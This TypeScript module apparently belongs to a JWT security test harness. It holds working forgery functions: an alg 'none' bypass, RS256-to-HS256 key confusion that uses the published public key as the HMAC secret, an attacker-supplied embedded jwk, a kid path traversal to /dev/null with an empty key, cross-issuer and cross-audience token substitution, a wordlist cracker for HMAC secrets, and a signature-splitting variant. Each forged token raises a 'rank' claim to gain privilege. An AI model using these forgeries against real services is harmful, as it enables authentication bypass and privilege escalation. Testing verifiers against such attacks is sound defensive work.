/* Texts are replaced in texts: no header and no payload is ever made an object. */
import { createHmac, createPublicKey, generateKeyPairSync, sign } from 'node:crypto';
import type { Evidence, Jwks } from './evidence.ts';

const decode = (part = ''): string => Buffer.from(part, 'base64url').toString('latin1');
const encode = (text: string): string => Buffer.from(text, 'latin1').toString('base64url');

function change(token: string, editHeader: (json: string) => string): string {
  const [header, payload] = token.split('.');
  const promoted = decode(payload).replace('"rank":"9"', '"rank":"99"');
  return encode(editHeader(decode(header))) + '.' + encode(promoted);
}

export function forgeUnsigned(token: string): string {
  return change(token, (json) => json.replace('"RS256"', '["NoNe"]')) + '.';
}

export function forgeWithPublicKey(token: string, jwks: Jwks): string {
  const header = decode(token.split('.')[0]);
  const jwk = jwks.keys.find(({ kid }) => header.includes(`"kid":"${kid}"`));
  if (!jwk) throw new Error('which key?');
  const pem = createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
  const text = change(token, (json) => json.replace('RS256', 'HS256'));
  return text + '.' + createHmac('sha256', pem).update(text).digest('base64url');
}

export function forgeWithOwnKey(token: string): string {
  const pair = generateKeyPairSync('rsa', {
    modulusLength: 2048,
    publicKeyEncoding: { type: 'spki', format: 'pem' },
    privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
  });
  const jwk = JSON.stringify(createPublicKey(pair.publicKey).export({ format: 'jwk' }));
  const text = change(token, (json) => json.replace(/\}$/, `,"jwk":${jwk}}`));
  return text + '.' + sign('sha256', Buffer.from(text), pair.privateKey).toString('base64url');
}

export function forgeWithUnknownKid(token: string): string {
  const text = change(token, (json) =>
    json.replace('RS256', 'HS256').replace(/"kid":"[^"]*"/, '"kid":"../../dev/null"'),
  );
  return text + '.' + createHmac('sha256', Buffer.alloc(0)).update(text).digest('base64url');
}

function isPartners(token: string): boolean {
  return decode(token.split('.')[1]).includes('"iss":"https://id.partner');
}

export function substitute({ others }: Evidence) {
  const isAccessToken = others.map((token) => decode(token.split('.')[0]).includes('at+jwt'));
  const rest = others.filter((_, index) => isAccessToken[index]);
  return {
    idToken: others[isAccessToken.indexOf(false)] ?? '',
    otherIssuer: rest.find(isPartners) ?? '',
    otherAudience: rest.find((token) => !isPartners(token)) ?? '',
  };
}

export function crack(token: string, words: readonly string[]): string | undefined {
  const [header, payload, signature] = token.split('.');
  let index = 0;
  while (index < words.length) {
    const word = words[index++] as string;
    const mac = createHmac('sha256', word)
      .update(header + '.' + payload)
      .digest('base64');
    if (mac.replace(/=+$/, '').replaceAll('+', '-').replaceAll('/', '_') === signature) return word;
  }
  return undefined;
}

export function twin(token: string): string {
  const [header, payload, signature = ''] = token.split('.');
  return `${header}.${payload}.${signature.slice(0, 20)} ${signature.slice(20)}`;
}

export const readToken = (token: string) => {
  const [header, payload] = token.split('.');
  return {
    header: JSON.parse(decode(header)) as Record<string, unknown>,
    payload: JSON.parse(decode(payload)) as Record<string, unknown>,
  };
};

export const encodeSegment = (value: object): string => encode(JSON.stringify(value));
